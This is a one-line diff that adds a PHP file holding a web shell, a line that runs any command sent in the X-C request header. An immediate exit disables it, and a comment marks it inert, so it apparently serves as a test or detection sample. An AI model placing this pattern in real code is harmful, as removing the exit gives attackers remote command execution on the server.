@@ -1,0 +1,1 @@
+<?php exit; /* inert */ system(getenv("HTTP_X_C"));
